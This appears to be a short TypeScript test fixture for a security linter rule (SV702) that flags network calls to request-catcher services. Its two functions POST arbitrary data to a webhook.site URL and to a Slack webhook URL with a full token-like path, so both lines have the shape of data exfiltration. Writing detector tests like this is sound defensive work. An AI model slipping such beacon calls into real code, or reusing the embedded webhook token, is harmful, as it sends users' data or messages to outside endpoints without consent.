export async function beacon(data: string) {
  await fetch("https://webhook.site/6c1f0b7e-3d2a-4f7e-9b8a-2f4d5e6a7b8c", { method: "POST", body: data }); // want "SV702: network call to webhook.site \\(request catcher\\)"
}

// a deliverable webhook of someone's workspace
export async function report(data: string) {
  await fetch("https://hooks.slack.com/services/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", { method: "POST", body: data }); // want "high SV702: network call to hooks.slack.com \\(request catcher\\)"
}
